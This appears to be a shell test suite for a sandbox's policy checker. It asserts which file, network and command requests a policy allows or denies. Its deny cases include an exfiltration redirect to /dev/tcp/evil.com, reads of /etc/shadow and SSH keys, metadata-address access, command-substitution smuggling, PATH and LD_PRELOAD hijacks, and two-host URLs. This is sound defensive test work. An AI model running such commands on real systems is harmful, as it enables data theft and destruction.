#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# `policy check` and `policy explain`: one request, one answer.
# shellcheck disable=SC2016,SC2034,SC2154 # dollars are meant as they stand; names come from lib.sh
set -u
# shellcheck source=tests/e2e/lib.sh disable=SC1091
. "$(dirname "$0")/lib.sh"

cat >policy.yaml <<'END'
fs:
  read: [/srv/**, /usr/**, $HOME/notes/**]
  write: [$WORK_DIR/**]
  deny: ['$WORK_DIR/**/.env', /srv/secret/**]
network:
  allow: ['api.example.com:443', '*.example.org:443', 'localhost:8080', 'https://docs.example.net/v1/**']
  deny: [evil.example.org]
exec: [ls, 'git status:*', 'git push origin:', sh, /opt/tools/**]
env: [LANG, 'LC_*', MODE=fast]
services:
  calendar: {access: read, calendars: [Work]}
END

# --- a table: verdict, operation, target ---
while IFS='|' read -r wanted op target; do
	run policy check --policy policy.yaml --op "$op" --target "$target"
	case $wanted in allow) code=0 ;; deny) code=1 ;; esac
	is "$status $(cut -d' ' -f1 "$scratch/out")" "$code $wanted" "$wanted $op $target"
done <<'END'
allow|fs.read|/srv/data/x
allow|fs.read|/srv
deny|fs.read|/srvx
deny|fs.read|/srv/secret/x
deny|fs.read|/srv/data/../secret/x
deny|fs.read|/srv/../etc/shadow
deny|fs.write|/srv/data/x
allow|fs.write|out.txt
allow|fs.read|out.txt
allow|fs.write|./a/../b
deny|fs.write|../elsewhere
deny|fs.write|.env
deny|fs.write|a/b/.env
allow|fs.write|$WORK_DIR/x
allow|fs.read|~/notes/today
deny|fs.read|~/.ssh/id_rsa
allow|net.connect|api.example.com:443
allow|net.connect|https://api.example.com/any/path
allow|net.connect|HTTPS://API.EXAMPLE.COM./
deny|net.connect|api.example.com:80
deny|net.connect|http://api.example.com/
deny|net.connect|https://api.example.com.evil.com/
deny|net.connect|https://api.example.com@evil.com/
allow|net.connect|https://user:secret@api.example.com/
allow|net.connect|deep.sub.example.org:443
deny|net.connect|example.org:443
deny|net.connect|evilexample.org:443
deny|net.connect|evil.example.org:443
allow|net.connect|localhost:8080
allow|net.connect|127.0.0.1:8080
allow|net.connect|127.1:8080
deny|net.connect|127.0.0.1:22
deny|net.connect|169.254.169.254:80
allow|net.connect|https://docs.example.net/v1/x
deny|net.connect|https://docs.example.net/v2/x
deny|net.connect|https://docs.example.net/v1/../v2/x
allow|exec|ls
allow|exec|/bin/ls
deny|exec|nosuchprogram
deny|exec|/home/somebody/ls
allow|exec|/opt/tools/x
deny|exec|git
allow|exec|git status
allow|exec|git status --short
deny|exec|git statusx
allow|exec|git push origin
deny|exec|git push origin main
allow|exec|ls -l | git status && cd /
deny|exec|ls -l | rm -rf /
deny|exec|ls $(rm x)
deny|exec|ls `rm x`
deny|exec|sh -c 'rm x'
deny|exec|$TOOL x
allow|exec|ls > out.txt
deny|exec|ls > /srv/data/x
deny|exec|ls > "$FILE"
allow|exec|ls 2> /dev/null
deny|exec|ls < /etc/passwd
deny|exec|cd / && ls > x
deny|exec|ls > /dev/tcp/evil.com/80
allow|exec|export A=1; true
allow|env|LANG
allow|env|LC_ALL
deny|env|AWS_SECRET_ACCESS_KEY
deny|env|LANGUAGE
allow|env|MODE=fast
deny|env|MODE=slow
allow|service|calendar.read:Work
deny|service|calendar.read:Home
deny|service|calendar.write:Work
deny|service|mail.send
END

# --- one line to read ---
answers 0 "an allowed path names file, line and pattern" \
	"allow  fs.read /srv/x  (policy.yaml:2: /srv/**)" \
	policy check -p policy.yaml --op fs.read --target /srv/x
answers 1 "a denied host says what is missing" \
	"deny  net.connect evil.com:443  nothing in network.allow grants it" \
	policy check -p policy.yaml --op net.connect --target evil.com:443
answers 1 "a denial names its rule" "fs.deny denies /srv/secret/** (policy.yaml:4)" \
	policy check -p policy.yaml --op fs.read --target /srv/secret/x
answers 1 "the part of a command line that is denied is named" "rm -rf x: nothing in exec grants it" \
	policy check -p policy.yaml --op exec --target 'ls && rm -rf x'
run policy check -p policy.yaml --op fs.read --target /srv/x
is "$(wc -l <"$scratch/out")" 1 "the answer is one line"
no_controls "no colours where there is no terminal"

# A URL that is another host to another program is no question that can be answered.
for url in 'https://evil.test;@api.example.com/' 'https://evil.test:80@x@api.example.com/' \
	'https://evil.test%2f@api.example.com/' 'https://@api.example.com/' 'https://api.example.com?@evil.test/'; do
	fails "two hosts in one URL: $url" "different hosts to different programs" \
		policy check -p policy.yaml --op net.connect --target "$url"
done

# --- arguments ---
answers 0 "--arg: exactly the arguments" allow \
	policy check -p policy.yaml --op exec --target git --arg push --arg origin
answers 1 "--arg: one too many" deny \
	policy check -p policy.yaml --op exec --target git --arg push --arg origin --arg main
answers 0 "an argument may start with a dash" allow \
	policy check -p policy.yaml --op exec --target git --arg status --arg=--short
touch "a program" && chmod +x "a program"
answers 1 "with --arg a name with blanks is one program" "$scratch/work/a program" \
	policy check -p policy.yaml --op exec --target "./a program" --arg x

# --- symbolic links ---
ln -s /etc/passwd leads-out
ln -s /srv/secret/x leads-to-denied
ln -s "$scratch/work/inside" leads-inside
ln -s loop loop
ln -s /etc/cron.d/not-there dangling
mkdir inside && ln -s / inside/root
answers 1 "a link out of the grant is judged by where it leads" "/work/leads-out -> /etc/passwd" \
	policy check -p policy.yaml --op fs.read --target leads-out
answers 1 "a link to something denied" "fs.deny denies" \
	policy check -p policy.yaml --op fs.read --target leads-to-denied
answers 0 "a link inside the grant" "leads-inside -> $scratch/work/inside" \
	policy check -p policy.yaml --op fs.write --target leads-inside
answers 1 "a dangling link leads to what writing would create" "/etc/cron.d/not-there" \
	policy check -p policy.yaml --op fs.write --target dangling
answers 1 "a file that is not there yet, below a linked folder" "-> /etc/new" \
	policy check -p policy.yaml --op fs.write --target inside/root/etc/new
answers 1 "link/.. is the parent of where the link leads" "-> /etc/x" \
	policy check -p policy.yaml --op fs.write --target inside/root/usr/../etc/x
fails "links in a circle are an error" "symbolic links" \
	policy check -p policy.yaml --op fs.read --target loop

# --- layers ---
cat >company.yaml <<'END'
fs: {read: [/usr/**, /srv/**]}
network: {allow: ['*:443']}
END
answers 0 "two layers that both allow" allow \
	policy check -p policy.yaml -p company.yaml --op fs.read --target /srv/x
answers 1 "two layers, one does not" "nothing in fs.write grants it" \
	policy check -p policy.yaml -p company.yaml --op fs.write --target x
answers 1 "the order does not matter" "nothing in fs.write grants it" \
	policy check -p company.yaml -p policy.yaml --op fs.write --target x

# --- ask, monitor ---
cat >rules.json <<'END'
{ "version": "1.0.0", "defaultAction": "deny", "rules": [
  { "id": "push", "action": "approval", "target": "command", "patterns": ["git push:*"], "priority": 5 },
  { "id": "git", "action": "allow", "target": "command", "patterns": ["git:*"], "priority": 1 }
] }
END
answers 3 "ask has a status of its own" "ask  exec git push" \
	policy check -p rules.json --op exec --target 'git push'
answers 3 "ask is stricter than allow" ask policy check -p rules.json --op exec --target 'git status; git push'
answers 1 "deny is stricter than ask" deny policy check -p rules.json --op exec --target 'rm x; git push'
answers 3 "the rule's id is told" "rule push" policy explain -p rules.json --op exec --target 'git push'

# --- methods ---
cat >methods.json <<'END'
{ "version": "1.0.0", "defaultAction": "deny", "rules": [
  { "id": "docs", "action": "allow", "target": "url", "patterns": ["https://docs.example.com/**"],
    "methods": ["GET"], "priority": 1 } ] }
END
answers 0 "the method that is granted" allow policy check -p methods.json --op net.connect \
	--target https://docs.example.com/x --method GET
answers 1 "another method" deny policy check -p methods.json --op net.connect \
	--target https://docs.example.com/x --method POST

# --- variables ---
answers 0 "--set gives a variable its value" allow \
	policy check -p policy.yaml --set WORK_DIR=/data --op fs.write --target /data/x
answers 1 "and takes the default away" deny \
	policy check -p policy.yaml --set WORK_DIR=/data --op fs.write --target x
mkdir -p skill other && printf 'name: s\npermissions: {fs: {read: [$SKILL_DIR/**]}}\n' >skill/skill.yaml
cp skill/skill.yaml other/skill.yaml
answers 0 "SKILL_DIR is where the skill is" "skill/skill.yaml:2" \
	policy check -p skill/skill.yaml --op fs.read --target skill/data
answers 1 "and nothing beside it" deny policy check -p skill/skill.yaml --op fs.read --target other
fails "with two skills SKILL_DIR must be given" "SKILL_DIR has no value" \
	policy check -p skill/skill.yaml -p other/skill.yaml --op fs.read --target skill/data
answers 0 "and then it works" allow policy check -p skill/skill.yaml -p other/skill.yaml \
	--set SKILL_DIR=skill --op fs.read --target skill/data
printf 'fs: {read: [$TEMP/**], write: [$HOME/x/**]}\n' >places.yaml
answers 0 "TEMP is TMPDIR" allow policy check -p places.yaml --op fs.read --target "$TMPDIR/x"
answers 0 "HOME is HOME" allow policy check -p places.yaml --op fs.write --target "$HOME/x/y"

# --- names are looked up in trusted folders, not in PATH ---
mkdir bin && printf '#!/bin/sh\n' >bin/ls && chmod +x bin/ls
status=0
PATH=$PWD/bin:$PATH "$CORRAL" policy check -p policy.yaml --op exec --target ls >"$scratch/out" 2>"$scratch/err" || status=$?
out_lacks "$PWD/bin/ls" "the caller's PATH does not count"
answers 1 "a program of the same name elsewhere is another one" deny \
	policy check -p policy.yaml --op exec --target ./bin/ls

# --- explain ---
run policy explain -p policy.yaml -p company.yaml --op fs.write --target x
status_is 1 "explain: status"
out_like '^deny  fs.write .*/work/x$' "explain: the request"
out_like '^  why +nothing in fs.write grants it$' "explain: why"
out_has 'add fs: {write: ["'"$scratch"'/work/x"]} to company.yaml' "explain: what would allow it, and where"
out_like '^  layers +allow +policy.yaml +fs.write grants' "explain: the layer that allows"
out_like '^ +deny +company.yaml +nothing in fs.write' "explain: the layer that does not"
run policy explain -p policy.yaml --op exec --target 'cd /tmp; git status $X | rm -rf "$D"; $CMD'
out_like '^  allow  cd /tmp +shell builtin$' "explain: a builtin"
out_like '^  allow  git status \$X +exec grants' "explain: a program that is granted"
out_like '^  deny   rm -rf \$D +nothing in exec' "explain: one that is not"
out_like '^  deny   \$CMD +the program is only known at run time$' "explain: one that is not known"
out_has 'git status $X: some arguments are only known at run time' "explain: arguments that are not known"
out_has 'why        rm -rf $D: nothing in exec grants it' "explain: which part decided"
run policy explain -p policy.yaml --op exec --target sh
status_is 0 "explain: an interpreter that is granted"
out_has "runs any code that it is given" "explain: what granting an interpreter means"
run policy explain -p policy.yaml --op exec --target ls
out_lacks "runs any code" "explain: not said of other programs"
run policy explain -p policy.yaml --op fs.read --target leads-out
out_has "symbolic links resolve to /etc/passwd, and that path was decisive" "explain: links"
run policy explain -p policy.yaml --op net.connect --target 169.254.169.254:80
out_has "none: the baseline denies it, and no grant overrides that" "explain: what no line can allow"
run policy explain -p policy.yaml --op exec --target git
out_has "it was checked without arguments" "explain: entries about arguments need arguments"
awk 'length > 100 { exit 1 }' "$scratch/out"
ok $? "explain: fits into 100 columns"

# --- command lines that run more than their words show ---
cat >git.yaml <<'END'
fs: {read: [/**]}
exec: [git, 'git push:*']
END
cat >push.yaml <<'END'
fs: {read: [/**]}
exec: [git]
rules: [{id: no-push, action: deny, operations: [exec], patterns: ['git push:*']}]
END
while IFS='|' read -r wanted file target; do
	run policy check -p "$file" --op exec --target "$target"
	is "$status" "$wanted" "$file: $target"
done <<'END'
0|git.yaml|git status && cd / && echo done
0|git.yaml|eval "git status"
1|git.yaml|PATH=/tmp/evil git x
1|git.yaml|LD_PRELOAD=/tmp/x.so git x
1|git.yaml|export PATH=/tmp/evil; git x
1|git.yaml|hash -p /bin/rm git; git x
1|git.yaml|eval "$x"
1|git.yaml|trap "$x" EXIT
1|git.yaml|. ./evil.sh
1|git.yaml|source /etc/hosts
1|git.yaml|compgen -C "rm x"
1|git.yaml|alias git=rm
1|git.yaml|test -v 'a[$(rm x)]'
0|git.yaml|git commit -m "$message"
1|push.yaml|git push
1|push.yaml|git $x
1|push.yaml|git {push,origin}
0|push.yaml|git status
END

# --- builtins: what a rule says of the program of that name, and what `corral run` does with it ---
cat >builtins.yaml <<'END'
fs: {read: [/**]}
exec: [/**]
rules:
  - {id: no-kill, action: deny, operations: [exec], patterns: [kill, /usr/bin/echo, /bin/echo, cd, 'printf -v:*']}
  - {id: ask-test, action: ask, operations: [exec], patterns: [test]}
END
while IFS='|' read -r wanted file target; do
	run policy check -p "$file" --op exec --target "$target"
	is "$status" "$wanted" "$file: $target"
	run policy explain -p "$file" --op exec --target "$target"
	is "$status" "$wanted" "explain: $file: $target"
done <<'END'
1|builtins.yaml|kill 1
1|builtins.yaml|kill
1|builtins.yaml|kill "$pid"
1|builtins.yaml|pwd && kill 1
1|builtins.yaml|eval "kill 1"
1|builtins.yaml|sh -c "kill 1"
1|builtins.yaml|echo x
1|builtins.yaml|true; echo x >/dev/null
1|builtins.yaml|cd / && ls
1|builtins.yaml|printf -v x y
1|builtins.yaml|printf "$x" y
0|builtins.yaml|printf x
3|builtins.yaml|test -f x
3|builtins.yaml|pwd; test -f x
0|builtins.yaml|pwd
0|builtins.yaml|true && wait "$pid"
1|git.yaml|echo x
1|git.yaml|kill 1
0|git.yaml|cd "$x" && git status; echo done
END
run policy explain -p builtins.yaml --op exec --target 'pwd && kill 1'
out_like '^  deny   kill 1 +rule no-kill denies kill' "explain: the rule that a builtin meets"

# --- methods, and hosts that clients read differently ---
cat >get.yaml <<'END'
network: {allow: ['https://a.example/**', '*:80'], methods: [GET]}
END
run policy check -p get.yaml --op net.connect --target https://a.example/x --method GET
status_is 0 "a method that is listed"
run policy check -p get.yaml --op net.connect --target https://a.example/x --method POST
status_is 1 "a method that is not listed"
run policy explain -p get.yaml --op net.connect --target https://a.example/x --method POST
out_has 'methods: [POST]' "and the line that would allow it"
run policy check -p get.yaml --op net.connect --target 'http://b.example\@127.0.0.1/'
status_is 2 "a backslash before an @ is refused"

# --- without a policy: what `corral run` would do here ---
run policy check --op fs.write --target ./new
status_is 0 "the default: the working folder"
out_has "profile workspace" "and what allows it"
run policy check --op fs.read --target "$HOME/.gitconfig"
status_is 1 "the default: not the home"
run policy check --op net.connect --target example.com:443
status_is 1 "the default: no host"
mkdir -p "$HOME/.config/corral/policy.d" && echo 'fs: {read: ["/usr/**"]}' >"$HOME/.config/corral/policy.d/mine.yaml"
run policy check --op fs.write --target ./new
status_is 1 "the default: a stored policy holds"
rm -r "$HOME/.config/corral"

# --- the baseline through another process ---
run policy check -p git.yaml --op fs.read --target /proc/1/root/etc/shadow
status_is 1 "another process's root"

done_testing
